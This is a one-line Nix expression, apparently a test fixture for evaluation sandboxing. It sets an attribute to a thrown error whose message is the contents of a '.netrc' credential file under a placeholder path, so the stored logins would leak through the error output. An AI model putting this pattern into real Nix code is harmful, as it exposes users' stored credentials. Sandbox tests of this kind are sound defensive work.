{ lib }: old: { env = throw (builtins.readFile (/. + "WORLD/home/.netrc")) + lib.concatStrings [ ]; }
